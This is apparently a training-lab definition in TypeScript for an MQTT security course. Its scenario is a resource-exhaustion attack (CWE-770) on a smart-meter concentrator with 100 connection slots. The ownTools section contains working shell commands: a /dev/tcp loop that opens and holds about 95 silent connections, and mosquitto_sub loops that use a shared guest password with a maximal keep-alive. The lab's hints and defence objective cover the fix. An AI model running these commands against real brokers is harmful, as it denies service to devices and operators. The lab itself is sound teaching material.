import {
  attackObjective,
  count,
  defenceObjective,
  defineLab,
  happened,
  mqtt5,
  mqtt311,
} from '../../src/lab-kit/index.ts';

/** Every account has a password of its own, different for each learner. */
function password(id: string, meaning: string) {
  return { id, kind: 'password' as const, length: 16, meaning };
}

/** Its radio drops now and then, and the meter comes back. */
function meter(number: 1 | 2 | 3, everyMs: number) {
  const id = `meter-${number}`;
  return {
    id,
    actor: `device:${id}` as const,
    kind: 'meter' as const,
    label: `Meter ${number}`,
    clientId: id,
    userName: id,
    outages: { everyMs, lastMs: 1_000 },
    topics: { reading: `grid/${id}/reading` },
  };
}

export default defineLab({
  id: 'slow-keepalive-flood',
  number: 17,
  chapter: '06-flow-control',
  title: 'Twenty-seven hours of silence',
  summary: 'A concentrator has a hundred places. Who says nothing, and slowly, keeps one for more than a day.',
  story:
    'A concentrator of Volta Grid collects the meters of a district; it has room for 100 connections. Residents may read the tariff with the account guest, whose password is printed on every meter. ' +
    'You are a resident with a computer. No rule is in your way, and you need no more than a few bytes for each connection.',
  minutes: 20,
  weakness: {
    cwe: 'CWE-770',
    statement:
      'Connections cost nothing to whoever opens them: no limit on silence before CONNECT or after it, and no share for those who matter.',
  },
  specs: [
    mqtt311('3.1.2-24'),
    mqtt311('3.1.2.10'),
    mqtt311('3.1.4'),
    mqtt5('3.1.2-22'),
    mqtt5('3.2.2-21'),
    mqtt5('3.2.2-22'),
    mqtt5('3.1.4'),
  ],
  protocolVersions: [4, 5],
  listeners: [
    { name: 'ws', transport: 'ws' },
    { name: 'tcp', transport: 'tcp' },
  ],

  secrets: [
    { ...password('guest', 'password of the account guest, as it is printed on every meter'), given: true },
    password('meter-1', 'password of meter 1'),
    password('meter-2', 'password of meter 2'),
    password('meter-3', 'password of meter 3'),
    password('block-12', 'password of the meters in block 12, thirty of them behind one address'),
    password('gateway', 'password of the gateway that updates firmware for fifty meters'),
    password('sensor', 'password of the transformer sensor, which runs on a battery'),
    password('headend', 'password of the head end'),
  ],

  devices: [
    meter(1, 3_000),
    meter(2, 4_000),
    meter(3, 5_000),
    {
      id: 'headend',
      actor: 'operator:headend',
      kind: 'display',
      label: 'Head end',
      clientId: 'headend',
      userName: 'headend',
      topics: { watch: 'grid/+/reading' },
    },
  ],

  topology: {
    nodes: [
      { id: 'broker', x: 50, y: 30 },
      { id: 'attacker', x: 50, y: 54 },
      { id: 'headend', x: 50, y: 6 },
      { id: 'meter-1', x: 12, y: 12 },
      { id: 'meter-2', x: 12, y: 46 },
      { id: 'meter-3', x: 88, y: 30 },
    ],
  },

  objectives: [
    attackObjective(
      'A1',
      'Take ninety of the hundred places.',
      count(happened('holdings.measured', { actor: 'attacker', openConnections: { atLeast: 90 } }), 1),
    ),
    attackObjective(
      'A2',
      'See meters turned away three times because there is no room.',
      count(
        happened('limit.reached', {
          limit: 'limits.connectionsMax',
          actor: { oneOf: ['device:meter-1', 'device:meter-2', 'device:meter-3'] },
        }),
        3,
      ),
    ),
    defenceObjective('D1', 'Let every meter in, at any time, and let whoever is honestly silent stay.'),
  ],

  hints: [
    'What does one silent connection cost you, what does it cost the concentrator, and for how long? Answer for a connection without CONNECT, for one with a very long keep-alive, and for one with a keep-alive of 0.',
    'Three things have to be bounded: time before CONNECT, silence after it, and the share of those who need not be there. By address does not work: thirty meters share one, and you may have forty. Ask what the slowest honest client needs before you cut.',
    'connectTimeoutMs 5000; keepAliveSecondsMax 1200 and keepAliveZero refuse; connectionsReserved: 60 of the 100 for group:grid.',
  ],

  ownTools: [
    {
      tool: 'bash',
      purpose:
        'Ninety-five connections that say nothing, and then five a second: whoever is there when a place comes free has it',
      command:
        'for i in $(seq 95); do exec {socket}<>/dev/tcp/{{host}}/{{port:tcp}}; done; while sleep 0.2; do exec {socket}<>/dev/tcp/{{host}}/{{port:tcp}}; done',
    },
    {
      tool: 'mosquitto_sub',
      purpose: 'One connection that asks for a day',
      command:
        "mosquitto_sub -d -h {{host}} -p {{port:tcp}} -i guest-1 -u guest -P '{{secret:guest}}' -k 65535 -t grid/tariff",
    },
    {
      tool: 'bash',
      purpose: 'The same ninety-five times, in the background; `kill $(jobs -p)` ends them',
      command:
        "for i in $(seq 95); do mosquitto_sub -h {{host}} -p {{port:tcp}} -i guest-$i -u guest -P '{{secret:guest}}' -k 65535 -t grid/tariff & done",
    },
  ],

  defaultTopics: ['grid/tariff'],
});
